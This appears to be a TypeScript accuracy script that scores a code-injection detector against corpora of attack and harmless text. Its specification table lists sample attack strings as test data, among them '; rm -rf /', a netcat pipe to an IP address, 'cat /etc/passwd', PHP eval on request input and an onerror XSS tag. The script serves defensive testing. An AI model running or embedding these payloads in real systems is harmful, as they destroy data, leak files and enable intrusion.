// `npm run accuracy -- DIR [--verbose]`: measures code_sanitation on corpora of attacks and of harmless text (JSON lines).
// Prints the ratio of detected attacks per family and of flagged harmless texts; exits with 1 if a threshold is missed.
import { existsSync, readdirSync, readFileSync } from "node:fs";
import { basename, join } from "node:path";
import { compileDetector } from "../src/plugins/code_sanitation/detector.ts";
import { LANGUAGES } from "../src/plugins/code_sanitation/settings.ts";
import { ENCODINGS } from "../test/support/encodings.ts";

interface Sample {
  readonly text: string;
  readonly family?: string;
}

/** Minimum ratio of detected attacks, by file or by file and family. */
const MIN_DETECTED: Readonly<Record<string, number>> = {
  "attacks-libinjection sql": 0.95,
  "attacks-libinjection html": 0.95,
  "attacks-gotestwaf": 0.9,
  "attacks-crs": 0.75,
};
/** Maximum ratio of flagged texts, by harmless file. */
const MAX_FLAGGED: Readonly<Record<string, number>> = {
  "benign-bench": 0,
  "benign-gotestwaf": 0,
  "benign-libinjection": 0.01,
  "benign-arena-hard": 0.01,
};
/** The examples of the specification (section 2.8), as a client would send them. */
const SPECIFIED: Readonly<Record<string, readonly string[]>> = {
  javascript: [
    "eval()",
    "eval('alert(1)')",
    "Function()",
    "new Function('return 1')()",
    "setTimeout('alert(1)', 100)",
    "element.innerHTML = '<b>x</b>'",
    "document.write('<p>x</p>')",
    "<script>alert(1)</script>",
    '<div onclick="go()">',
    "button.addEventListener('click', 'alert(1)')",
  ],
  python: [
    "exec()",
    "exec('import os')",
    "eval('1+1')",
    "compile('1+1', 'x', 'eval')",
    "__import__('os')",
    "os.system('ls')",
    "subprocess.Popen(['ls'])",
  ],
  php: ["eval($_GET['x'])", "eval()", "system('ls')", "system()"],
  sql: ["UNION SELECT", "1 UNION SELECT name FROM users", "DROP TABLE", "DROP TABLE users"],
  shell: [
    "system('ls')",
    "exec('ls')",
    "; rm -rf /",
    "x && whoami",
    "x | nc 10.0.0.1 80",
    "$(whoami)",
    "x=`id`",
    "cat /etc/passwd",
    "echo hello > /tmp/file",
    "cd /etc",
    "cd ../..",
    "chmod 777 file",
    "chown root:root file.txt",
  ],
  java: ["Runtime.exec()", 'Runtime.getRuntime().exec("ls")'],
  csharp: ["Process.Start()", 'Process.Start("cmd.exe")'],
  ruby: ["eval()", "eval('1')", "exec('ls')", "exec()"],
  html: ["<script>", "<script src=//x>", "<img src=x onerror=alert(1)>", "onerror="],
};

const detector = compileDetector(LANGUAGES);
const isFlagged = (text: string): boolean => detector.first(text) !== null;

const PROSE = "The weather was fine and the road was long, so we walked until the evening came. ";
const PADDING = PROSE.repeat(Math.ceil((128 * 1024) / PROSE.length));

const directory = process.argv.slice(2).find((argument) => !argument.startsWith("--"));
const isVerbose = process.argv.includes("--verbose");
if (directory === undefined || !existsSync(directory)) {
  console.error(
    directory === undefined
      ? "accuracy: the directory is missing; run npm run accuracy -- DIRECTORY [--verbose]"
      : `accuracy: ${directory} does not exist`,
  );
  process.exit(2);
}
const files = readdirSync(directory)
  .filter((name) => name.endsWith(".jsonl"))
  .sort();
if (files.length === 0) {
  console.error(`accuracy: ${directory} has no .jsonl file`);
  process.exit(2);
}
const missedThresholds: string[] = [];

console.log("Attacks: detected");
report(
  "specification",
  Object.entries(SPECIFIED).flatMap(([family, texts]) => texts.map((text) => ({ text, family }))),
  1,
);
for (const file of files.filter((name) => name.startsWith("attacks"))) {
  report(basename(file, ".jsonl"), samplesOf(file), MIN_DETECTED[basename(file, ".jsonl")]);
}
console.log("\nHarmless texts: flagged");
for (const file of files.filter((name) => name.startsWith("benign")))
  reportHarmless(basename(file, ".jsonl"), samplesOf(file));
console.log("\nSame verdict if encoded or padded");
reportEqualVerdicts(files.flatMap(samplesOf));

if (missedThresholds.length > 0) {
  console.error(`\naccuracy: missed ${missedThresholds.join("; ")}`);
  process.exit(1);
}

function samplesOf(file: string): Sample[] {
  const lines = readFileSync(join(directory ?? "", file), "utf8").split("\n");
  return lines.filter((line) => line.trim() !== "").map((line) => JSON.parse(line) as Sample);
}

function report(name: string, samples: readonly Sample[], minimum: number | undefined): void {
  const missed = samples.filter(({ text }) => !isFlagged(text));
  for (const family of new Set(samples.map((sample) => sample.family ?? ""))) {
    const ofFamily = samples.filter((sample) => (sample.family ?? "") === family);
    const detected = ofFamily.length - missed.filter((sample) => (sample.family ?? "") === family).length;
    printRatio(`${name} ${family}`, detected, ofFamily.length, MIN_DETECTED[`${name} ${family}`]);
  }
  printRatio(name, samples.length - missed.length, samples.length, minimum);
  if (!isVerbose) return;
  for (const { family, text } of missed)
    console.log(`    missed ${family ?? ""}: ${JSON.stringify(text.slice(0, 160))}`);
}

function printRatio(name: string, count: number, total: number, minimum: number | undefined): void {
  const ratio = count / total;
  const threshold = minimum === undefined ? "" : `   at least ${percent(minimum)}`;
  console.log(
    `  ${name.padEnd(30)} ${`${count} of ${total}`.padStart(14)} ${percent(ratio).padStart(8)}${threshold}`,
  );
  if (minimum !== undefined && ratio < minimum)
    missedThresholds.push(`${name} ${percent(ratio)} < ${percent(minimum)}`);
}

function reportHarmless(name: string, samples: readonly Sample[]): void {
  const flagged = samples
    .map(({ text }) => ({ text, finding: detector.first(text) }))
    .filter(({ finding }) => finding !== null);
  const ratio = flagged.length / samples.length;
  const maximum = MAX_FLAGGED[name];
  const threshold = maximum === undefined ? "" : `   at most ${percent(maximum)}`;
  console.log(
    `  ${name.padEnd(30)} ${`${flagged.length} of ${samples.length}`.padStart(14)} ${percent(ratio).padStart(8)}${threshold}`,
  );
  for (const { text, finding } of flagged) {
    if (finding === null) continue;
    console.log(
      `    ${finding.pattern}: ${JSON.stringify(text.slice(Math.max(0, finding.start - 40), finding.end + 40))}`,
    );
  }
  if (maximum !== undefined && ratio > maximum)
    missedThresholds.push(`${name} ${percent(ratio)} > ${percent(maximum)}`);
}

function reportEqualVerdicts(samples: readonly Sample[]): void {
  const verdicts = samples.map(({ text }) => isFlagged(text));
  const encodings = { ...ENCODINGS, "after 128 kB": (text: string) => PADDING + text };
  for (const [name, encode] of Object.entries(encodings)) {
    // Padding adds 128 kB to each sample, so check only every eleventh.
    const step = name.startsWith("after") ? 11 : 1;
    let checked = 0;
    let different = 0;
    for (let index = 0; index < samples.length; index += step) {
      const text = samples[index]?.text ?? "";
      checked++;
      if (isFlagged(encode(text)) === verdicts[index]) continue;
      different++;
      if (isVerbose && different <= 40)
        console.log(`    ${verdicts[index] ? "lost" : "new"}: ${JSON.stringify(text.slice(0, 120))}`);
    }
    printRatio(name, checked - different, checked, 1);
  }
}

function percent(ratio: number): string {
  return `${(ratio * 100).toFixed(1)} %`;
}
